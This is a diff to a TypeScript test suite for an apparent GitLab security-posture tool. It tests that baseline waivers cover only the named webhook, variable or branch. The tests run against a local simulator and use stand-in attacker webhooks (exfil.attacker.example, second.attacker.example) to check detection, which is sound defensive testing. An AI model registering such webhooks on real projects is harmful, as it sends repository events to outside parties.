@@ -16,6 +16,8 @@ afterEach(async () => {
 
 const NOW = new Date('2026-11-20T10:00:00Z');
 const EXPIRES = '2026-12-20';
+// The incident's webhook to exfil.attacker.example on acme/api (sim/scenarios/incident.ts).
+const HOOK_ID = '168';
 
 async function init(extra: string[], token = sim!.tokens.owner, now = NOW) {
   const dir = tempDir('posture-init-');
@@ -40,21 +42,22 @@ describe('init on the incident scenario', () => {
     expect(baseline.gitlab.tier).toBeUndefined();
     expect(run.text).toMatch(/^ {2}# tier: ultimate {3}# detected \(.*\); pin it if detection is wrong$/m);
 
-    // One waiver per rule + target of the incident (ci.masked-variables and webhooks.ssl-verification have two
-    // findings on one target each, so 13 findings give 11 waivers; webhooks.allowed-hosts has no allowlist).
-    expect(baseline.waivers.map((w) => `${w.rule} ${w.target}`).sort()).toEqual(
+    // One waiver per rule + target + the finding's object or branch (DESIGN.md baseline: a waiver naming them
+    // covers only that finding). ci.masked-variables and webhooks.ssl-verification have two findings on one
+    // variable / hook each, so 13 findings give 11 waivers; webhooks.allowed-hosts has no allowlist.
+    expect(baseline.waivers.map((w) => `${w.rule} ${w.target} object=${w.object ?? '-'} branch=${w.branch ?? '-'}`).sort()).toEqual(
       [
-        'ci.masked-variables acme/platform/deploy',
-        'ci.public-jobs acme/platform/infra',
-        'git-abuse.download-limit acme',
-        'mr-approvals.author-approval acme/api',
-        'mr-approvals.min-approvals acme/api',
-        'protected-branches.force-push acme/web',
-        'protected-branches.push acme/web',
-        'two-factor.required acme',
-        'visibility.group acme',
-        'visibility.project acme/web',
-        'webhooks.ssl-verification acme/api',
+        'ci.masked-variables acme/platform/deploy object=AWS_SECRET_ACCESS_KEY branch=-',
+        'ci.public-jobs acme/platform/infra object=- branch=-',
+        'git-abuse.download-limit acme object=- branch=-',
+        'mr-approvals.author-approval acme/api object=- branch=-',
+        'mr-approvals.min-approvals acme/api object=approval rule 126 branch=main',
+        'protected-branches.force-push acme/web object=- branch=main',
+        'protected-branches.push acme/web object=- branch=main',
+        'two-factor.required acme object=- branch=-',
+        'visibility.group acme object=- branch=-',
+        'visibility.project acme/web object=- branch=-',
+        `webhooks.ssl-verification acme/api object=${HOOK_ID} branch=-`,
       ].sort(),
     );
     expect(new Set(baseline.waivers.map((w) => `${w.reason} ${w.expires} ${w.expired}`))).toEqual(new Set([`existing exception, review ${EXPIRES} false`]));
@@ -69,13 +72,39 @@ describe('init on the incident scenario', () => {
     expect(result.summary).toMatchObject({ findings: 0, waived: 13, errors: 0, complete: true });
   });
 
+  it('--waive-existing names the hook it waives: a second weak hook on the same project is still reported', async () => {
+    sim = await startSim({ scenario: 'incident' });
+    const run = await init(['--profile', 'hardened', '--waive-existing']);
+    expect(run.code).toBe(0);
+    // An attacker adds a second plain-HTTP hook to acme/api after the baseline was written.
+    const api = await fetch(`${sim.apiUrl}/projects/${encodeURIComponent('acme/api')}/hooks`, {
+      method: 'POST',
+      headers: { 'PRIVATE-TOKEN': sim.tokens.owner, 'content-type': 'application/json' },
+      body: JSON.stringify({ url: 'http://second.attacker.example/h', push_events: true, enable_ssl_verification: false }),
+    });
+    expect(api.status).toBe(201);
+    const hook = (await api.json()) as { id: number };
+    expect(String(hook.id)).not.toBe(HOOK_ID);
+
+    const check = await runCli(['check', '--baseline', run.output, '--format', 'json'], { GITLAB_TOKEN: sim.tokens.owner }, { now: NOW });
+    expect(check.code).toBe(1);
+    const result = JSON.parse(check.stdout) as CheckResult;
+    const open = result.findings.filter((f) => !f.waived);
+    expect(open.map((f) => `${f.rule} ${f.target.path} ${f.object}`)).toEqual([
+      `webhooks.ssl-verification acme/api ${hook.id}`,
+      `webhooks.ssl-verification acme/api ${hook.id}`,
+    ]);
+    // The first hook's findings stay waived.
+    expect(result.findings.filter((f) => f.waived && f.object === HOOK_ID)).toHaveLength(2);
+  });
+
   it('without --waive-existing: no waivers, the violations are listed as a comment, check still finds them', async () => {
     sim = await startSim({ scenario: 'incident' });
     const run = await init(['--profile', 'hardened']);
     expect(run.code).toBe(0);
     const baseline = loadBaseline(run.output, { now: NOW });
     expect(baseline.waivers).toEqual([]);
-    expect(run.text).toContain('# Current violations (13 findings on 11 rule/target pairs):');
+    expect(run.text).toContain('# Current violations (13 findings; --waive-existing would write 11 waivers):');
     expect(run.text).toContain('#     protected-branches.force-push: Force push is allowed on protected branch main');
     expect(run.stdout).toContain('13 current violation(s) listed as a comment');
     const check = await runCli(['check', '--baseline', run.output, '--format', 'json'], { GITLAB_TOKEN: sim.tokens.owner }, { now: NOW });
